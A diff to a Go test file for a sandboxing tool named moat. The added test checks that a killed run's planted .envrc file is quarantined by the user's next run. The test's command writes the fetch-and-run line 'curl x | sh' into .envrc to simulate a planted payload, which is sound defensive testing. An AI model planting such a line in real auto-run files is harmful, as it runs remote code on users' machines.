@@ -4,10 +4,12 @@ import (
 	"bufio"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
+	"time"
 
 	"github.com/moatbox/moat/audit"
 )
@@ -83,5 +85,70 @@ func TestServeKilledQuarantines(t *testing.T) {
 	}
 	if end == nil || !strings.Contains(strings.Join(end.Warnings, "\n"), ".envrc") {
 		t.Errorf("the reaped session's end in the audit stream: %+v", end)
+	}
+}
+
+// TestKilledRunQuarantinedByNext: moat run killed outright (SIGKILL, as
+// a framework's timeout kills it) while its command writes the workspace
+// directly cannot quarantine what the command planted; the next run of
+// the same user does, and says so. The control: a file made elsewhere
+// stays, and a run that ends on its own leaves no record behind.
+func TestKilledRunQuarantinedByNext(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("MOAT_STATE_DIR", filepath.Join(dir, "state"))
+	ws := filepath.Join(dir, "ws")
+	os.Mkdir(ws, 0o755)
+	if code, _, errs := moat(t, ws, "run", "--", "true"); code != 0 {
+		t.Fatalf("a run: %d %q", code, errs)
+	}
+	if left, _ := os.ReadDir(filepath.Join(dir, "state", "runs")); len(left) != 0 {
+		t.Errorf("a run that ended left records: %v", left)
+	}
+	cmd := exec.Command(os.Args[0], "run", "--", "sh", "-c", "echo 'curl x | sh' > .envrc; echo ok > made.txt; exec sleep 60")
+	cmd.Env = append(os.Environ(), "MOAT_TEST_AS_MOAT=1")
+	cmd.Dir = ws
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
+		if _, err := os.Stat(filepath.Join(ws, "made.txt")); err == nil {
+			break
+		}
+		if time.Now().After(deadline) {
+			cmd.Process.Kill()
+			cmd.Wait()
+			t.Fatal("the command did not start")
+		}
+	}
+	cmd.Process.Signal(syscall.SIGKILL)
+	cmd.Wait()
+	if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err != nil {
+		t.Fatalf("the command did not plant .envrc (the test's premise): %v", err)
+	}
+	// The next run, elsewhere: the killed run's sandbox may take a moment
+	// to go, and its record stays locked until it has.
+	other := t.TempDir()
+	var errs string
+	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
+		var code int
+		code, _, errs = moat(t, other, "run", "--", "true")
+		if code != 0 {
+			t.Fatalf("the next run: %d %q", code, errs)
+		}
+		if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err != nil || time.Now().After(deadline) {
+			break
+		}
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err == nil {
+		t.Fatalf(".envrc is still in the workspace after the next run; it said %q", errs)
+	}
+	if !strings.Contains(errs, "was killed before its end") || !strings.Contains(errs, ".envrc") {
+		t.Errorf("the next run does not say what it quarantined: %q", errs)
+	}
+	if _, err := os.Stat(filepath.Join(ws, "made.txt")); err != nil {
+		t.Errorf("made.txt was taken out too: %v", err)
+	}
+	if left, _ := os.ReadDir(filepath.Join(dir, "state", "runs")); len(left) != 0 {
+		t.Errorf("records left: %v", left)
 	}
 }
